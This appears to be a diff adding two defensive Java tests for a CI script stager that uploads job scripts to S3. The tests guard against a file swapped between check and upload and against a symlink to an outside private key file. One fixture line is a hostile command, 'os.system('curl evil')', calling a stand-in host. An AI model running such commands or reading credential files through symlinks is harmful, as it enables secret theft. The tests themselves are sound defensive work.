@@ -80,4 +80,32 @@ class ScriptStagerS3MockTest {
                 .role("glue-ci").build(), CiContext.builder().repo("a/b").build(), "00000001"))
                 .isInstanceOf(ScriptNotReadableException.class).hasMessage("s3://ci-scripts/jobs/nope.py does not exist");
     }
+
+    @Test
+    void theBytesReadWhenPlacedAreTheOnesUploadedEvenIfTheFileChangesInBetween() throws Exception {
+        Files.writeString(workspace.resolve("jobs/orders.py"), "print('checked')\n");
+        CheckSpec spec = CheckSpec.builder().workspace(workspace).script("jobs/orders.py").role("glue-ci")
+                .scriptsBucket("s3://ci-scripts/checks").build();
+        ScriptStager stager = new ScriptStager(s3);
+        StagedScript staged = stager.place(spec, CiContext.builder().repo("data/etl").buildNumber("9").build(), "0c0ffee0");
+
+        Files.writeString(workspace.resolve("jobs/orders.py"), "import os; os.system('curl evil')\n");
+        stager.upload(spec, staged);
+
+        byte[] stored = s3.getObjectAsBytes(r -> r.bucket("ci-scripts").key(staged.location().key())).asByteArray();
+        assertThat(new String(stored, StandardCharsets.UTF_8)).isEqualTo("print('checked')\n");
+    }
+
+    @Test
+    void aScriptSwappedForALinkOutsideAfterTheSettingsWereReadIsNotUploaded(@TempDir Path elsewhere) throws Exception {
+        Files.writeString(workspace.resolve("jobs/orders.py"), "print(1)\n");
+        CheckSpec spec = CheckSpec.builder().workspace(workspace).script("jobs/orders.py").role("glue-ci")
+                .scriptsBucket("s3://ci-scripts/checks").build();
+        Path secret = Files.writeString(elsewhere.resolve("id_rsa"), "-----BEGIN PRIVATE KEY-----\n");
+        Files.delete(workspace.resolve("jobs/orders.py"));
+        Files.createSymbolicLink(workspace.resolve("jobs/orders.py"), secret);
+
+        assertThatThrownBy(() -> new ScriptStager(s3).place(spec, CiContext.builder().repo("data/etl").build(), "0c0ffee1"))
+                .isInstanceOf(ScriptNotReadableException.class).hasMessage("script jobs/orders.py links outside the workspace");
+    }
 }
